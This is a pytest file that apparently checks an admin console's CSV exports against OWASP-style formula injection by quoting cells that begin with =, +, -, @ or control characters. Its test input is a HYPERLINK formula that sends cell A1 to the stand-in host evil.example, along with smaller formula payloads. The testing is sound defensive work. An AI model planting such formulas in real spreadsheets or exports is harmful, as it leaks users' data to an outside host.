"""Finding 11: no CSV the app writes starts a cell with a formula (OWASP CSV injection).

The attack: `kpis.csv?owner==HYPERLINK(...)` echoed the filter into the export as-is, and a spreadsheet ran it.
"""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from integration.admin.csvsafe import SafeDictWriter, safe_cell, writer
from integration.db import session_scope
from integration.models import Decision, Tenant
from tests.console_helpers import add_members, sign_in

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.fixture()
def tenant_admin(app, env):
    with session_scope(env["DATABASE_URL"]) as s:
        tenant = Tenant(platform="hubspot", external_id="77", name="Tenant T")
        s.add(tenant)
        s.flush()
        users = add_members(s, tenant.id, {"alice": "admin"})
        created = dt.datetime(2024, 3, 1, 10, 0, tzinfo=dt.UTC)
        for n, owner in enumerate(("+1-555-0100@acme.com", "@sum(a1)@acme.com", "a@acme.com")):
            s.add(Decision(tenant_id=tenant.id, idempotency_key=f"route:contact:{n}", kind="route",
                           object_type="contact", object_id=str(n), outcome=owner, reason="r", inputs={},
                           created_at=created))
        tenant_id = tenant.id
    return tenant_id, sign_in(app, users["alice"], "alice")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_kpi_export_neutralises_a_formula_in_the_owner_filter(tenant_admin):
    tenant_id, client = tenant_admin
    resp = client.get(f"/console/tenants/{tenant_id}/kpis.csv", query_string={
        "owner": FORMULA, "start": "2024-03-01", "end": "2024-03-01"})
    assert resp.status_code == 200
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    assert {"section": "summary", "key": "owner", "value": "'" + FORMULA} in rows
    assert not [c for c in cells(resp.get_data(as_text=True)) if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_kpi_export_neutralises_owner_emails_from_the_crm(tenant_admin):
    tenant_id, client = tenant_admin
    text = client.get(f"/console/tenants/{tenant_id}/kpis.csv?start=2024-03-01&end=2024-03-01").get_data(as_text=True)
    rows = {(r["section"], r["key"]): r["value"] for r in csv.DictReader(io.StringIO(text))}
    assert rows[("leads_per_owner", "'+1-555-0100@acme.com")] == "1"
    assert rows[("leads_per_owner", "'@sum(a1)@acme.com")] == "1"
    assert rows[("leads_per_owner", "a@acme.com")] == "1"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-5, -0.25, 0, 12, None, "a@acme.com", "", "1-2", " =1"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_writers_neutralise_every_cell_and_keep_negative_numbers():
    out = io.StringIO()
    writer(out, lineterminator="\n").writerows([["=cmd", -5, "ok"], ["@x", -1.5, "-3"]])
    assert out.getvalue() == "'=cmd,-5,ok\n'@x,-1.5,'-3\n"
    out = io.StringIO()
    dict_writer = SafeDictWriter(out, fieldnames=["id", "name"], lineterminator="\n")
    dict_writer.writeheader()
    dict_writer.writerows([{"id": -7, "name": "+sum(1)"}])
    assert out.getvalue() == "id,name\n-7,'+sum(1)\n"
